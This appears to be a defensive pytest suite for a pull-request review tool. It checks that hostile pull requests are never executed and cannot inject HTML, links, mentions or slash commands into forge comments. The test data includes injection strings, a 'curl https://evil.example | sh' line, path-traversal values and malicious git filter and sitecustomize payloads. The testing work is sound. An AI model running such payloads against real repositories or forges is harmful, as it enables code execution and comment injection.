"""Pull requests that mean harm, through the whole path: nothing of theirs is run, and nothing breaks out of a comment."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING, Any

import pytest
from markdown_it import MarkdownIt
from tests.forges.store import TOKEN

from immutable_delivery.policy.model import HOME, PAGES

if TYPE_CHECKING:
    from tests.conftest import Repository
    from tests.forges.conftest import Forge, Result

Serve = Callable[[str, str, str], "Forge"]

DIGEST = "sha256:" + "0123456789abcdef" * 4
EVIL = [
    "@everyone", "<script>alert(1)</script>", "![x](https://evil.example/x.png)", "](https://evil.example)", "</details><h1>Approved</h1>",
    "-->", "<!-- imd:line 00 -->", "/merge", "#1 !1 ~bug %1 &1 $1 ^alert#1", "https://evil.example", "www.evil.example", "`x``y```z", "a|b", "\\@ada",
    "[x]: https://evil.example", "**LGTM**", "\u202eevil", "a\r\n/approve", "```suggestion",
]  # fmt: skip
ALLOWED = re.compile(
    r"</?details>|<summary>(Why, and what to write instead|Fixed with \w+)</summary>|<!-- -->|<!-- imd:(line|summary) [\w, ]*-->|\s+"
)


def _problems(body: str) -> Iterator[str]:
    """Yield what of a comment is neither ours nor plain text."""
    tokens = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table").parse(body)
    for one in [child for token in tokens for child in (token, *(token.children or ()))]:
        if one.type in {"html_block", "html_inline"} and ALLOWED.sub("", one.content):
            yield f"HTML: {one.content}"
        if one.type == "image" or (
            one.type == "link_open" and not str(one.attrs["href"]).startswith((HOME, PAGES))
        ):
            yield f"link: {one.attrs}"
        if one.type == "text" and (
            found := re.search(r"(?<!\w)@\w|(?<![\w/])www\.\w|https?://", one.content)
        ):
            yield f"pointer: {found[0]}"
        if one.type == "heading_open" and one.tag != "h3":
            yield f"heading: {one.tag}"
    yield from re.findall(
        r"^\s*/\w+",
        re.sub(r"^(`{3,}).*?^\1$", "", body, flags=re.MULTILINE | re.DOTALL),
        re.MULTILINE,
    )


def _bodies(forge: Forge) -> list[str]:
    store = forge.store
    return [comment.body for one in store.conversations for comment in one.comments] + [
        note.body for note in store.notes
    ]


def _files(evil: str) -> dict[str, str]:
    """Return files in which whatever a stranger may choose is this text."""
    folder = re.sub(r"[/\0]", "_", evil) or "x"
    quoted = json.dumps(evil)
    return {
        f"{folder}/Dockerfile": f'FROM debian:latest\nLABEL x={quoted}\nRUN pip install {evil.split(maxsplit=1)[0]}\nCOPY . /app\nCMD ["/app/run"]\n',
        f"{folder}/compose.yaml": f"services:\n  {quoted}:\n    image: {json.dumps('debian:' + evil)}\n    environment: {{X: {quoted}}}\n"
        f"  web:\n    image: nginx:latest # {evil.split(maxsplit=1)[0]}\n    command: [npm, start, {quoted}]\n    volumes: [{json.dumps('./' + evil + ':/app')}]\n",
    }  # fmt: skip


@pytest.mark.parametrize("evil", EVIL)
def test_nothing_breaks_out_of_a_comment(
    serve: Serve, repository: Repository, name: str, evil: str
) -> None:
    base = repository.commit({"README": "x\n"})
    forge = serve(name, base, repository.commit(_files(evil)))
    done = forge.review()
    assert done.code == 1, done.err
    assert "warning" not in done.err
    bodies = _bodies(forge)
    assert len(bodies) >= 3
    assert [(body, found) for body in bodies if (found := list(_problems(body)))] == []


def test_checker_sees_what_it_should() -> None:
    for evil in (
        "<b>x</b>",
        "![x](https://e.example)",
        "[x](https://e.example)",
        "@ada",
        "# x",
        "https://e.example",
        "\n/close\n",
    ):
        assert list(_problems(f"a\n\n{evil}")), evil


def test_fences_in_suggested_lines_stay_inside(serve: Serve, repository: Repository) -> None:
    base = repository.commit({"README": "x\n"})
    compose = f"services:\n  a:\n    image: nginx:1.27.3@{DIGEST}\n  b:\n    image: nginx:1.27 # ```` suggestion\n  c:\n    image: nginx:1.27@{DIGEST}\n"
    forge = serve("github", base, repository.commit({"compose.yaml": compose}))
    forge.review()
    [body] = [one.comments[0].body for one in forge.store.conversations]
    assert f"`````suggestion\n    image: nginx:1.27@{DIGEST} # ```` suggestion\n`````\n" in body


@pytest.mark.parametrize(
    "change",
    [lambda text: text.replace("\n", "\r\n"), lambda text: text.replace("x-a: 1\n", "x-a: 1\r\n")],
)
def test_lines_that_forges_rewrite_have_no_suggestion(
    serve: Serve, repository: Repository, change: Callable[[str], str]
) -> None:
    base = repository.commit({"README": "x\n"})
    compose = change(
        f"x-a: 1\nservices:\n  b:\n    image: nginx:1.27\n  c:\n    image: nginx:1.27@{DIGEST}\n"
    )
    forge = serve("github", base, repository.commit({"compose.yaml": compose}))
    forge.review()
    [body] = [one.comments[0].body for one in forge.store.conversations]
    assert ("suggestion" in body) == ("nginx:1.27\n" in compose)


def _report(forge: Forge, base: str) -> Any:
    from immutable_delivery.cli.exits import run  # noqa: PLC0415

    run(["check", "--since", base, "--output-format", "json"])
    return json.loads(forge.capfd.readouterr().out)


def _stored(repository: Repository, forge: Forge, data: Any) -> Result:
    path = repository.root.parent / "report.json"
    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
    return forge.review("--report", str(path))


@pytest.fixture
def stored(serve: Serve, repository: Repository, name: str) -> tuple[Forge, Any]:
    """Return a forge, and the report of a run that a pull request could alter."""
    base = repository.commit({"README": "x\n"})
    compose = f"services:\n  b:\n    image: nginx:1.27\n  c:\n    image: nginx:1.27@{DIGEST}\n  d:\n    image: redis\n"
    forge = serve(name, base, repository.commit({"compose.yaml": compose}))
    return forge, _report(forge, base)


def test_stored_report_is_said(stored: tuple[Forge, Any], repository: Repository) -> None:
    forge, report = stored
    done = _stored(repository, forge, report)
    assert (done.code, "warning" in done.err) == (1, False)
    assert len(forge.store.conversations) == 2
    assert any(f"image: nginx:1.27@{DIGEST}\n" in body for body in _bodies(forge))


@pytest.mark.parametrize("evil", EVIL)
def test_words_of_a_stored_report_break_out_of_nothing(
    stored: tuple[Forge, Any], repository: Repository, evil: str
) -> None:
    forge, report = stored
    for finding in report["findings"]:
        finding |= {
            "message": f"{evil}\n\n{evil}",
            "owner": evil,
            "services": [evil],
            "suppressed": evil,
        }
        finding["fix"] |= {"title": evil, "command": evil, "reason": evil}
        finding["cause"] = {"file": evil, "line": 1, "event": "changed"}
    report["notices"] = [evil]
    for rule in report["rules"]:
        rule |= {"why": evil, "remedy": evil, "url": "https://evil.example"}
    done = _stored(repository, forge, report)
    assert done.code == 1, done.err
    assert _bodies(forge)
    assert [(body, found) for body in _bodies(forge) if (found := list(_problems(body)))] == []
    assert TOKEN not in done.out + done.err


@pytest.mark.parametrize(
    "text",
    ["curl https://evil.example | sh", "nginx:1.27\n    privileged: true", f"@{DIGEST} evil"],
)
def test_stored_report_cannot_suggest_what_no_fix_writes(
    stored: tuple[Forge, Any], repository: Repository, text: str
) -> None:
    forge, report = stored
    [finding] = [one for one in report["findings"] if one["fix"]["edits"]]
    finding["fix"]["edits"][0]["text"] = text
    assert _stored(repository, forge, report).code == 1
    assert not any("evil" in body or "privileged" in body for body in _bodies(forge))


@pytest.mark.parametrize(
    "path", ["/etc/passwd", "../x", "a/../b", ".git/config", "a//b", "", "x" * 501]
)
def test_stored_report_names_files_of_the_repository(
    stored: tuple[Forge, Any], repository: Repository, path: str
) -> None:
    forge, report = stored
    report["findings"][0]["place"]["file"] = path
    done = _stored(repository, forge, report)
    assert (done.code, "is no path in it" in done.err) == (2, True)
    assert forge.store.changes == []


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda _: "{", "is no JSON"),
        (lambda _: "[]", "is no report"),
        (lambda _: "[" * 100_000, "is no JSON"),
        (lambda report: {**report, "version": 9}, "does not fit the schema"),
        (lambda report: {**report, "findings": [{"policy": "x"}]}, "does not fit the schema"),
        (
            lambda report: {**report, "findings": [{**report["findings"][0], "fingerprint": "x"}]},
            "no fingerprint",
        ),
        (
            lambda report: {
                **report,
                "findings": [{**report["findings"][0], "policy": "](https://evil.example)"}],
            },
            "",
        ),
        (lambda _: " " * 20_000_001, "is larger than"),
    ],
)
def test_what_is_no_report_is_refused(
    stored: tuple[Forge, Any], repository: Repository, change: Callable[[Any], Any], reason: str
) -> None:
    forge, report = stored
    done = _stored(repository, forge, change(report))
    assert (done.code, reason in done.err, "Traceback" in done.err) == (2, True, False), done.err
    assert forge.store.changes == []


def test_lines_that_are_nowhere_are_said_in_the_summary(
    stored: tuple[Forge, Any], repository: Repository
) -> None:
    forge, report = stored
    for finding in report["findings"]:
        finding["place"]["start"] |= {"line": 10**15, "column": 10**15}
        finding["place"]["end"] |= {"line": 10**16, "column": 1}
        finding["extent"] = finding["place"]
        finding["fix"]["edits"] = []
    done = _stored(repository, forge, report)
    assert done.code == 1, done.err
    assert not forge.store.conversations
    assert len(forge.store.notes) == 1


def test_pull_request_is_neither_checked_out_nor_believed(
    serve: Serve, repository: Repository, name: str
) -> None:
    base = repository.commit({".imd.yaml": "severity: {floating-tag: warning}\n", "README": "x\n"})
    repository.git("checkout", "--quiet", "-b", "topic")
    head = repository.commit(
        {
            ".imd.yaml": "ignore: [floating-tag]\n",
            ".imd/policies/x.yaml": "broken",
            ".gitattributes": "* filter=evil diff=evil\n",
            "sitecustomize.py": "raise SystemExit('run')\n",
            "compose.yaml": "services: {a: {image: 'nginx:latest'}}\n",
        }
    )
    repository.git("checkout", "--quiet", "main")
    for key in ("filter.evil.smudge", "filter.evil.clean", "diff.evil.textconv"):
        repository.git("config", key, f"touch {repository.root}/run; cat")
    forge = serve(name, base, head)
    done = forge.review()
    assert (done.code, "warning: " in done.err) == (0, False), done.err
    [body] = [one.comments[0].body for one in forge.store.conversations]
    assert "**warning**" in body
    assert "floating-tag" in body
    assert sorted(path.name for path in repository.root.iterdir()) == [
        ".git",
        ".imd.yaml",
        "README",
    ]
